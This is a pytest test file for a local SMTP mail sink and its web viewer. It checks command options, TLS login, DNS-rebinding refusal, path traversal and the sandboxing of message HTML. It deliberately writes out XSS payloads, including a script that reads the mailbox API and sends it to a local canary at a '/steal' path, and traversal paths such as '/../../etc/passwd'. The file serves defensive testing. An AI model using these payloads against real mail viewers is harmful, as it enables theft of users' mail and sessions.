"""`pysmtpx sink`: what it takes and shows; the page in a real browser, with mail that wants to break out."""

from __future__ import annotations

import contextlib
import http.client
import json
import signal
import smtplib
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from support.browser import CHROMIUM, Browser
from support.certs import client_context, server_files

import pysmtpx
from pysmtpx.cli.inbox import Inbox, read_letter
from pysmtpx.cli.web import Page
from pysmtpx.testing import MailServer

from .conftest import Ran

Run = Callable[..., Ran]
in_a_browser = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (Debian: chromium)")


class Sink:
    """A mail server with an inbox and its page, in this process."""

    def __init__(self, most: int = 100) -> None:
        self.inbox = Inbox(most, lambda letter: None)
        self.server = MailServer(strict=False, local_mailboxes=True, text_line_limit=None)
        self.server.ledger = self.inbox
        self.page = Page(self.inbox, 0)

    def __enter__(self) -> Sink:
        self.server.start()
        self.page.__enter__()
        return self

    def __exit__(self, *_: object) -> None:
        self.page.__exit__()
        self.server.stop()

    @property
    def port(self) -> int:
        return int(self.page.url.rstrip("/").rpartition(":")[2])

    def take(self, content: bytes | EmailMessage, sender: str = "ann@example.org") -> None:
        with pysmtpx.connect(self.server.url) as smtp:
            if isinstance(content, EmailMessage):
                smtp.send_message(content)
            else:
                smtp.send(sender, "bob@example.com", content)

    def get(self, path: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        try:
            connection.request("GET", path, headers={"Host": host or f"127.0.0.1:{self.port}"})
            answer = connection.getresponse()
            return answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()
        finally:
            connection.close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    with Sink() as running:
        yield running


def letter(subject: str, text: str = "Hello", html: str | None = None) -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "Ann <ann@example.org>", "bob@example.com", subject
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    return message


# -- the command -----------------------------------------------------------------------


def test_it_takes_mail_tells_it_and_writes_files(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "pysmtpx", "sink", "--port", "0", "--web-port", "0", "--json"]
    process = subprocess.Popen(
        [*command, "--folder", tmp_path / "mail", "--stop-after", "3", "--refuse", "eve@example.com"],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    where = json.loads(process.stdout.readline())
    with pysmtpx.connect(where["mail"]) as smtp:
        smtp.send_message(letter("first"))
        with pytest.raises(pysmtpx.AllRecipientsFailed):
            smtp.send("ann@example.org", "eve@example.com", b"Subject: no\r\n\r\n")
        smtp.send(
            "", "root@localhost", b"Subject: second\n\nbare\n" + b"x" * 5000 + b"\n", allow_long_lines=True
        )
    where_to = pysmtpx.Server.from_url(where["mail"])
    with smtplib.SMTP(where_to.host, where_to.port, local_hostname="my_app_1") as client:
        client.sendmail("cron", ["a..b@my_host.example"], "Subject: third\n\nno end of line")
    out, _ = process.communicate(timeout=30)
    assert process.returncode == 0
    assert [json.loads(line)["subject"] for line in out.splitlines()] == ["first", "second", "third"]
    files = sorted((tmp_path / "mail").glob("*.eml"))
    assert len(files) == 3
    assert b"Subject: first" in files[0].read_bytes()


@pytest.mark.parametrize("tls", ["starttls", "implicit"])
def test_it_offers_tls_and_demands_a_log_in_where_it_is_told_to(tmp_path: Path, tls: str) -> None:
    chain, key = server_files(tmp_path, "localhost")
    command = [
        sys.executable,
        "-m",
        "pysmtpx",
        "sink",
        "--port",
        "0",
        "--no-web",
        "--json",
        "--stop-after",
        "1",
    ]
    with subprocess.Popen(
        [*command, "--certificate", chain, "--key", key, "--tls", tls, "--account", "ann:a:b"],
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdout is not None
        port = int(json.loads(process.stdout.readline())["mail"].rpartition(":")[2])
        options: dict[str, Any] = {"tls": tls, "ssl_context": client_context(), "username": "ann"}
        with pytest.raises(pysmtpx.AuthenticationError):
            pysmtpx.connect("localhost", port, password="wrong", **options)
        with pysmtpx.connect("localhost", port, password="a:b", **options) as smtp:
            assert smtp.is_tls
            smtp.send_message(letter("secure"))
        assert json.loads(process.stdout.read())["subject"] == "secure"
    assert process.returncode == 0


@pytest.mark.parametrize(
    "arguments", [("--account", "ann"), ("--account", ":x"), ("--certificate", "/no/such/file")]
)
def test_options_that_cannot_be_right(run: Run, arguments: tuple[str, ...]) -> None:
    assert run("sink", "--port", "0", "--no-web", *arguments).code == 2


def test_what_has_ended_is_not_kept() -> None:
    """A sink that runs for weeks."""
    with Sink(most=1) as sink:
        for number in range(5):
            sink.take(letter(str(number)))
        assert sink.inbox.connections == []
        assert sink.inbox.messages == []
        assert sink.inbox.count == 5
        assert [each.received.connection for each in sink.inbox.found()] == [4]


def test_an_interrupt_is_how_it_ends() -> None:
    command = [sys.executable, "-m", "pysmtpx", "sink", "--port", "0", "--no-web", "--json"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    process.stdout.readline()
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=30)
    assert process.returncode == 0


def test_a_port_that_is_taken(run: Run) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen()
        told = run("sink", "--port", sock.getsockname()[1], "--no-web")
    assert told.code == 5
    assert "--port" in told.err


# -- the page's answers ------------------------------------------------------------------


def test_list_search_and_details(sink: Sink) -> None:
    sink.take(letter("Apples", "red and green"))
    sink.take(letter("Pears", "yellow"))
    listed = json.loads(sink.get("/api/messages")[2])
    assert [each["subject"] for each in listed["messages"]] == ["Pears", "Apples"]
    assert [
        each["subject"] for each in json.loads(sink.get("/api/messages?q=GREEN+apples")[2])["messages"]
    ] == ["Apples"]
    details = json.loads(sink.get("/messages/1")[2])
    assert details["text"] == "red and green\n"
    assert ["Subject", "Apples"] in details["headers"]
    assert details["envelope"]["sender"] == "ann@example.org"
    assert b"Subject: Apples\r\n" in sink.get("/messages/1/raw")[2]


def test_an_attachment_is_saved_and_never_shown(sink: Sink) -> None:
    message = letter("with a file")
    message.add_attachment("<script>alert(1)</script>", subtype="html", filename='x".html\u202e')
    sink.take(message)
    status, headers, body = sink.get("/messages/1/files/0")
    assert status == 200
    assert headers["content-type"] == "application/octet-stream"
    assert headers["content-disposition"].startswith("attachment; filename*=UTF-8''x%22.html")
    assert headers["x-content-type-options"] == "nosniff"
    assert b"<script>" in body


def test_only_the_last_are_kept() -> None:
    with Sink(most=2) as sink:
        for number in range(3):
            sink.take(letter(str(number)))
        assert [each["subject"] for each in json.loads(sink.get("/api/messages")[2])["messages"]] == [
            "2",
            "1",
        ]
        assert sink.get("/messages/1")[0] == 404


def test_a_page_that_waits_for_news_does_not_keep_the_sink_from_ending() -> None:
    with ThreadPoolExecutor(1) as thread:
        with Sink() as sink:
            answer = thread.submit(sink.get, "/api/news?taken=0")
            time.sleep(0.2)  # it is under way by now; were it not, the test would only see less
            begun = time.monotonic()
        assert time.monotonic() - begun < 5
        with contextlib.suppress(OSError, http.client.HTTPException):
            answer.result()


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "127.0.0.1", "127.0.0.1.evil.example:{port}"]
)
@pytest.mark.parametrize("path", ["/", "/api/messages", "/messages/1", "/messages/1/raw"])
def test_a_name_that_a_stranger_points_here_reads_nothing(sink: Sink, host: str, path: str) -> None:
    """DNS rebinding: the browser believes that this machine is the stranger's site."""
    sink.take(letter("secret"))
    status, _, body = sink.get(path, host.format(port=sink.port))
    assert status == 403
    assert b"secret" not in body


@pytest.mark.parametrize(
    "path",
    [
        "/nowhere",
        "/messages",
        "/messages/9",
        "/messages/-1",
        "/messages/1/x",
        "/messages/1/files/7",
        "/messages/9999999999999999999999",
        "/messages/1/files/0/../../..",
        "/../../etc/passwd",
    ],
)
def test_a_page_that_is_not_there(sink: Sink, path: str) -> None:
    sink.take(letter("one"))
    connection = http.client.HTTPConnection("127.0.0.1", sink.port, timeout=10)
    connection.putrequest("GET", path)
    connection.endheaders()
    assert connection.getresponse().status == 404
    connection.close()


def test_it_listens_on_loopback_only(sink: Sink) -> None:
    assert sink.page.url.startswith("http://127.0.0.1:")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\r\n",
        b"\xff\xfe\x01binary",
        b"Subject: =?utf-8?q?=ff=fe?=\r\nFrom: <<<>>>@@\r\nTo: \r\n\r\n\xff\xff",
        b"Content-Type: text/plain; charset=nonsense\r\n\r\nx",
        b"Content-Type: multipart/mixed\r\n\r\nno boundary",
        b"Content-Type: text/html; charset=\x01\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!",
        b"Content-Disposition: attachment; filename*=nonsense''%ff\r\n\r\nx",
        b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nx",
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\n\r\n" * 500,
        b"".join(b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n" % (n, n) for n in range(999)),
    ],
)
def test_mail_of_any_kind_is_shown(sink: Sink, content: bytes) -> None:
    message = b"X: y\r\n" + content
    with pysmtpx.connect(sink.server.url) as smtp:
        smtp.send("ann@example.org", "bob@example.com", message, allow_long_lines=True)
    assert sink.get("/messages/1")[0] == 200
    assert sink.get("/messages/1/raw")[0] == 200


def test_images_of_the_message_are_put_into_its_html() -> None:
    message = letter("image", html='<img src="cid:logo"><img src="cid:bad">')
    html = message.get_payload()[1]  # type: ignore[index]
    html.add_related(b"\x89PNG", "image", "png", cid="<logo>")  # type: ignore[union-attr]
    html.add_related(b"<svg onload=alert(1)>", "image", "svg+xml", cid="<bad>")  # type: ignore[union-attr]
    with MailServer() as server:
        with pysmtpx.connect(server.url) as smtp:
            smtp.send_message(message)
        (received,) = server.messages
    shown = read_letter(1, received).html or ""
    assert 'src="data:image/png;base64,iVBORw=="' in shown
    assert "svg" not in shown


# -- in a browser ----------------------------------------------------------------------------


class Canary:
    """A web server that notes whatever is asked of it."""

    def __init__(self) -> None:
        asked = self.asked = []  # type: ignore[var-annotated]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"

    def __enter__(self) -> Canary:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def hostile(canary: str) -> str:
    """HTML that wants to run, to load, to leave its frame, and to read the other mail."""
    return f"""
    <html><head><base href="{canary}/base/"><link rel="stylesheet" href="{canary}/link">
    <link rel="prefetch" href="{canary}/prefetch"><link rel="preconnect" href="{canary}">
    <meta http-equiv="refresh" content="0; url={canary}/refresh">
    <style>@import url({canary}/import); body {{ background: url({canary}/background) }}
    @font-face {{ font-family: f; src: url({canary}/font) }} p {{ font-family: f }}</style></head>
    <body onload="fetch('{canary}/onload')"><p>HTML-IS-SHOWN</p>
    <script>fetch("{canary}/fetch"); top.document.title = "owned"; top.location = "{canary}/top";
    fetch("/api/messages").then(a => a.text()).then(t => fetch("{canary}/steal?" + t));</script>
    <script src="{canary}/script"></script><img src="{canary}/image" onerror="fetch('{canary}/onerror')">
    <svg onload="fetch('{canary}/svg')"><image href="{canary}/svg-image"/></svg>
    <iframe src="{canary}/frame"></iframe><iframe srcdoc="<script>fetch('{canary}/srcdoc')</script>"></iframe>
    <object data="{canary}/object"></object><embed src="{canary}/embed">
    <video src="{canary}/video" poster="{canary}/poster" autoplay></video>
    <audio src="{canary}/audio" autoplay></audio>
    <form id="f" action="{canary}/form" method="post"><input autofocus onfocus="f.submit()"></form>
    <a href="javascript:fetch('{canary}/js')" id="a">x</a>
    <details open ontoggle="fetch('{canary}/toggle')">y</details>
    </body></html>"""


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    with Browser(tmp_path / "profile") as opened:
        yield opened


@in_a_browser
@pytest.mark.timeout(120)
def test_hostile_html_runs_nothing_and_loads_nothing(sink: Sink, browser: Browser, tmp_path: Path) -> None:
    """The same octets in a page without the sink's rules do: so the test would see it."""
    evil = '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>'
    with Canary() as canary:
        message = letter(f"{evil}subject", f"{evil}text", hostile(canary.url))
        message["X-Evil"] = evil
        sink.take(message)
        browser.open(f"{sink.page.url}#1/HTML")
        browser.wait_for("document.querySelector('iframe')?.getAttribute('sandbox') === ''")
        # From the page that holds it the frame is another origin: not even its document can be seen.
        browser.wait_for("document.querySelector('iframe').contentDocument === null")
        time.sleep(2)  # what wants to run or load has had its time
        assert [frame["url"] for frame in browser.frames()] == [f"{sink.page.url}messages/1/html"]
        for view in ("Text", "Headers", "Raw"):
            browser.open(f"{sink.page.url}#1/{view}")
            browser.wait_for("document.getElementById('view').textContent.includes('<script>document.title')")
            assert browser.evaluate("document.title") == "pysmtpx sink"
            assert browser.evaluate("document.querySelectorAll('#view script, #view img, h2 *').length") == 0
        # The frame's own page, opened by itself.
        browser.open(f"{sink.page.url}messages/1/html")
        browser.wait_for("document.body?.innerText.includes('HTML-IS-SHOWN')")
        time.sleep(1)
        assert browser.evaluate("location.href") == f"{sink.page.url}messages/1/html"
        assert canary.asked == []
        (tmp_path / "bare.html").write_text(hostile(canary.url))
        browser.open((tmp_path / "bare.html").as_uri())
        limit = time.monotonic() + 20
        while len(canary.asked) < 5 and time.monotonic() < limit:
            time.sleep(0.05)
        assert len(canary.asked) >= 5
        browser.open("about:blank")


@in_a_browser
@pytest.mark.timeout(120)
def test_the_page_shows_list_text_envelope_and_what_is_searched(sink: Sink, browser: Browser) -> None:
    sink.take(letter("Apples", "red and green"))
    message = letter("Pears", "yellow", "<p>yellow</p>")
    message.add_attachment(b"a,b", "text", "csv", filename="data.csv")
    sink.take(message)
    subjects = "[...document.querySelectorAll('#list strong')].map(e => e.textContent).join()"
    browser.open(sink.page.url)
    browser.wait_for(f"{subjects} === 'Pears,Apples'")
    browser.evaluate("document.querySelector('#list button').click()")
    tabs = "[...document.querySelectorAll('#tabs button')]"
    browser.wait_for(f"{tabs}.map(e => e.textContent).join() === 'HTML,Text,Headers,Envelope,Files,Raw'")
    for tab, said in (
        ("Text", "yellow"),
        ("Headers", "Subject"),
        ("Envelope", "MAIL FROM"),
        ("Files", "data.csv"),
        ("Raw", "Subject: Pears"),
    ):
        browser.evaluate(f"{tabs}.find(e => e.textContent === '{tab}').click()")
        browser.wait_for(f"document.getElementById('view').innerText.includes('{said}')")
    browser.evaluate(
        "const s = document.getElementById('search'); s.value = 'GREEN'; s.dispatchEvent(new Event('input'))"
    )
    browser.wait_for(f"{subjects} === 'Apples'")


@in_a_browser
@pytest.mark.timeout(120)
def test_mail_that_comes_is_shown_without_being_asked_for(sink: Sink, browser: Browser) -> None:
    browser.open(sink.page.url)
    browser.wait_for("document.getElementById('count')?.textContent.startsWith('0 shown')")
    sink.take(letter("Fresh"))
    browser.wait_for("document.querySelector('#list strong')?.textContent === 'Fresh'", 5)
